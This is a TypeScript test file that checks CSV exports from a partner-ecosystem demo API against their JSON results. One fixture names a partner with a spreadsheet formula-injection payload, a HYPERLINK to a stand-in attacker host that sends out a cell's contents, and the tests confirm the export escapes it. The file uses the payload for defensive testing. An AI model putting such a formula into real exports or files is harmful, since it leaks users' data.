/**
 * Result downloads over HTTP on the demo ecosystem: every CSV holds the same
 * rows, in the same order, as the JSON answer it comes from, with names beside
 * ids; and a partner named like a spreadsheet formula comes out escaped.
 */
import { afterAll, beforeAll, expect, it } from 'vitest';
import { startServer, type TestServer } from '../../test/server.js';
import { describeStore } from '../../test/stores.js';

/** An independent RFC 4180 reader (the reference the downloads are read with): records of cells. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = text.charCodeAt(0) === 0xfeff ? 1 : 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') record.push(cell), (cell = '');
    else if (ch === '\n') record.push(cell), records.push(record), (record = []), (cell = '');
    else if (ch !== '\r') cell += ch;
  }
  return records;
}

/** The CSV as objects keyed by column title, after checking the download headers. */
async function download(response: Response, file: string): Promise<Array<Record<string, string>>> {
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(response.headers.get('content-disposition')).toBe(`attachment; filename="${file}"`);
  const [header, ...rows] = parseCsv(await response.text());
  for (const row of rows) expect(row).toHaveLength(header!.length);
  return rows.map((row) => Object.fromEntries(header!.map((title, i) => [title, row[i]!])));
}

const FORMULA_NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")';

describeStore('result downloads (CSV)', () => {
  let server: TestServer;
  const get = (path: string, headers: Record<string, string> = {}) => fetch(`${server.url}${path}`, { headers });
  const json = async <T>(path: string): Promise<T> => (await (await get(path)).json()) as T;

  beforeAll(async () => {
    server = await startServer();
    // A partner named like a formula, serving a customer another demo partner serves, so that introductions name it.
    const bundle = {
      version: 1,
      capabilities: [], regions: [], segments: [], customers: [], deals: [], solutions: [],
      partners: [{ id: 'p-formula', name: FORMULA_NAME, types: ['reseller'], regions: ['na-east'], segments: ['smb'] }],
      relationships: [{ from: 'p-formula', to: 'c-ashford-clinics', type: 'SERVES', role: 'resell' }],
    };
    const imported = await fetch(`${server.url}/api/import`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(bundle) });
    expect(imported.status).toBe(200);
  });
  afterAll(async () => server?.close());

  it('gaps: one line per gap, in rank order, with capability, region and segment names', async () => {
    const { gaps } = await json<{ gaps: Array<{ capability: string; capabilityName: string; region: string; segment: string; severity: number; qualifiedPartners: string[] }> }>('/api/gaps?limit=50');
    const rows = await download(await get('/api/gaps?limit=50&format=csv'), 'gaps.csv');
    expect(gaps.length).toBeGreaterThan(0);
    expect(rows.map((r) => [r.rank, r.capability, r['capability name'], r.region, r.segment, r.severity])).toEqual(gaps.map((g, i) => [String(i + 1), g.capability, g.capabilityName, g.region, g.segment, String(g.severity)]));
    expect(Object.keys(rows[0]!).slice(0, 7)).toEqual(['rank', 'capability', 'capability name', 'region', 'region name', 'segment', 'segment name']);
    // Region names come from the store: the demo names its regions, so at least one differs from its id.
    expect(rows.some((r) => r['region name'] !== r.region && r['region name'] !== '')).toBe(true);
  });

  it('introductions: Accept: text/csv works as format=csv, names beside ids, and the formula name is escaped', async () => {
    const { introductions } = await json<{ introductions: Array<{ otherPartnerId: string; otherPartnerName: string; score: number }> }>('/api/partners/p-formula/introductions');
    expect(introductions.length).toBeGreaterThan(0);
    const response = await get('/api/partners/p-formula/introductions', { accept: 'text/csv' });
    const rows = await download(response, 'introductions-p-formula.csv');
    expect(rows.map((r) => [r['introduce to'], r['introduce to name'], r.score])).toEqual(introductions.map((i) => [i.otherPartnerId, i.otherPartnerName, String(i.score)]));
    // OWASP: a leading quote, so the spreadsheet shows the text instead of running it.
    expect(rows.every((r) => r['partner name'] === `'${FORMULA_NAME}`)).toBe(true);
    // format=json wins over Accept.
    expect((await get('/api/partners/p-formula/introductions?format=json', { accept: 'text/csv' })).headers.get('content-type')).toMatch(/^application\/json/);
  });

  it('top introductions', async () => {
    const { introductions } = await json<{ introductions: Array<{ partnerId: string; otherPartnerId: string }> }>('/api/introductions?k=20');
    const rows = await download(await get('/api/introductions?k=20&format=csv'), 'introductions.csv');
    expect(rows.map((r) => [r.partner, r['introduce to']])).toEqual(introductions.map((i) => [i.partnerId, i.otherPartnerId]));
  });

  it('deal teams: a line per member, teams in rank order', async () => {
    const body = JSON.stringify({ customerId: 'c-ashford-clinics', limit: 3 });
    const post = (query: string) => fetch(`${server.url}/api/deals/team${query}`, { method: 'POST', headers: { 'content-type': 'application/json' }, body });
    const { teams } = (await (await post('')).json()) as { teams: Array<{ score: number; members: Array<{ partnerId: string; name: string; role: string }> }> };
    expect(teams.length).toBeGreaterThan(0);
    const rows = await download(await post('?format=csv'), 'deal-teams.csv');
    const expected = teams.flatMap((team, i) => team.members.map((m) => [String(i + 1), String(team.score), m.partnerId, m.name, m.role]));
    expect(rows.map((r) => [r.team, r['team score'], r.partner, r['partner name'], r.role])).toEqual(expected);
  });

  it('tier evaluations: every matching evaluation, not one page', async () => {
    const first = await json<{ counts: Record<string, number> }>('/api/tiers/evaluation?limit=1');
    const total = Object.values(first.counts).reduce((a, b) => a + b, 0);
    expect(total).toBeGreaterThan(1);
    const rows = await download(await get('/api/tiers/evaluation?limit=1&format=csv'), 'tier-evaluations.csv');
    expect(rows).toHaveLength(total);
    const page = await json<{ items: Array<{ partnerId: string; track: string; status: string }> }>('/api/tiers/evaluation?limit=1000');
    expect(rows.map((r) => [r.partner, r.track, r.status])).toEqual(page.items.map((e) => [e.partnerId, e.track, e.status]));
    expect(rows.every((r) => r['partner name'] !== '')).toBe(true);
  });

  it('conflicts: every matching conflict, not one page, with partner names', async () => {
    const all = await json<{ total: number; conflicts: Array<{ id: string; kind: string; partners: string[] }> }>('/api/conflicts?limit=1000');
    expect(all.total).toBeGreaterThan(1);
    const rows = await download(await get('/api/conflicts?limit=1&format=csv'), 'conflicts.csv');
    expect(rows.map((r) => [r.conflict, r.kind, r.status])).toEqual(all.conflicts.map((c) => [c.id, c.kind, 'open']));
    expect(rows.every((r) => r['partner names'] !== '' && r['partner names'] !== r.partners)).toBe(true);
  });

  it('a bad format is a 400 naming the field', async () => {
    const response = await get('/api/gaps?format=xlsx');
    expect(response.status).toBe(400);
    expect(JSON.stringify(await response.json())).toContain('format');
  });
});
